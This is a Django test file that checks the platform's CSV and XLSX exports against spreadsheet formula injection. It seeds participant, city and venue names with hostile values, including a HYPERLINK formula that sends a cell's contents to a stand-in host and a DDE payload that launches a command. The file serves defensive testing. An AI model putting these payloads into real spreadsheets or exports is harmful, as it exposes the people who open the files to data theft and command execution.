"""Issue 9, finding 4: every CSV and XLSX the platform writes is safe to open in a spreadsheet program.

A name such as =HYPERLINK("http://x?"&C2,"klik") must reach the file as text, never as a formula:
in CSV with a leading single quote (OWASP), in XLSX as a string cell. CSV files start with a BOM.
"""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from monitoring.tables import Column, Table, table_csv, tables_xlsx
from participants.models import AttendanceStatus
from progress.services import progress_rebuild
from sessions_app.models import SessionStatus
from tests.factories import AttendanceFactory, CityFactory, ParticipantFactory, PartnerFactory, TrainingSessionFactory
from users.models import Role

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
HYPERLINK = '=HYPERLINK("http://x?"&C2,"klik")'
HOSTILE = [HYPERLINK, "-1+2", "@SUM(A1)", "\tcmd", "+62 telepon", "\rbaris"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_world():
    """One partner's completed session, attended by people with hostile names, in a city and partner named likewise."""
    partner = PartnerFactory(name=HYPERLINK, short_name="@SUM(A1)")
    city = CityFactory(name="-Kota 2+3", province="=1+1")
    session = TrainingSessionFactory(
        partner=partner, city=city, title="@SUM(A1) kelas", venue="=cmd|' /C calc'!A0", status=SessionStatus.COMPLETED
    )
    people = []
    for name in HOSTILE:
        person = ParticipantFactory(city=city, full_name=name, business_name=name)
        AttendanceFactory(session=session, participant=person, status=AttendanceStatus.ATTENDED, checked_in_at=timezone.now())
        people.append(person)
    progress_rebuild(programme_id=session.programme_id)
    return session, people


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(BOM), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def _assert_csv_safe(rows, expected_texts):
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    for text in expected_texts:
        assert "'" + text in cells, f"{text!r} is not in the file as quoted text"


def _assert_xlsx_safe(response, expected_texts) -> list:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in expected_texts:
        text = text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert text in by_value, f"{text!r} is missing"
        assert by_value[text].data_type == "s"  # shown as the text that was typed, never evaluated
    return cells


@pytest.mark.parametrize("what", ["participants", "attendance"])
def test_participant_and_attendance_exports_carry_hostile_names_as_text(client, make_user, hostile_world, what):
    session, people = hostile_world
    client.force_login(make_user(Role.PROGRAMME_ADMIN))

    rows = _csv_rows(client.get(reverse("participants:export", args=[what, "csv"])))
    xlsx = client.get(reverse("participants:export", args=[what, "xlsx"]))

    _assert_csv_safe(rows, HOSTILE)
    cells = _assert_xlsx_safe(xlsx, HOSTILE)
    ids = {c.value for c in cells if c.data_type == "n"}
    assert {p.pk for p in people} <= ids  # ids are still numbers


def test_coordinator_export_is_safe_too(client, make_user, hostile_world):
    session, _people = hostile_world
    client.force_login(make_user(Role.PARTNER_COORDINATOR, partner=session.partner))

    rows = _csv_rows(client.get(reverse("participants:export", args=["attendance", "csv"])))

    _assert_csv_safe(rows, [HYPERLINK, "@SUM(A1) kelas"])


def test_schedule_csv_quotes_hostile_titles_and_keeps_numbers(client, make_user, hostile_world):
    session, _people = hostile_world
    client.force_login(make_user(Role.PROGRAMME_ADMIN))

    rows = _csv_rows(client.get(reverse("sessions_app:session-export"), {"when": "all"}))

    _assert_csv_safe(rows, ["@SUM(A1) kelas", "=cmd|' /C calc'!A0", HYPERLINK, "-Kota 2+3"])
    row = next(r for r in rows[1:] if r[0] == str(session.pk))
    assert row[15] == "50"  # capacity stays a plain number


def test_dashboard_exports_carry_hostile_city_and_partner_names_as_text(client, make_user, hostile_world):
    session, people = hostile_world
    client.force_login(make_user(Role.POLICY_VIEWER))
    query = {"programme": session.programme_id}

    by_city = _csv_rows(client.get(reverse("monitoring-export-csv", args=["by-city"]), query))
    partners = _csv_rows(client.get(reverse("monitoring-export-csv", args=["partner-performance"]), query))
    xlsx = client.get(reverse("monitoring-export-xlsx"), query)

    _assert_csv_safe(by_city, ["-Kota 2+3", "=1+1"])
    _assert_csv_safe(partners, [HYPERLINK])
    city_row = next(r for r in by_city[1:] if r[0] == "'-Kota 2+3")
    assert city_row[3] == str(len(people))  # the count is a number, not quoted
    cells = _assert_xlsx_safe(xlsx, ["-Kota 2+3", "=1+1", HYPERLINK])
    assert len(people) in {c.value for c in cells if c.data_type == "n"}


def test_negative_numbers_in_an_aggregate_stay_numbers():
    table = Table(
        "change",
        "Perubahan",
        [Column("city", "Kota"), Column("change", "Selisih"), Column("pct", "Persen")],
        [["Kupang", -3, -12.5], ["-Ambon", 4, None]],
    )

    rows = list(csv.reader(io.StringIO(table_csv(table).removeprefix("\ufeff"))))
    sheet = load_workbook(io.BytesIO(tables_xlsx([table]))).worksheets[0]

    assert rows[1:] == [["Kupang", "-3", "-12.5"], ["'-Ambon", "4", ""]]
    values = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0] == [("Kupang", "s"), (-3, "n"), (-12.5, "n")]
    assert values[1][0] == ("-Ambon", "s") and values[1][1] == (4, "n")
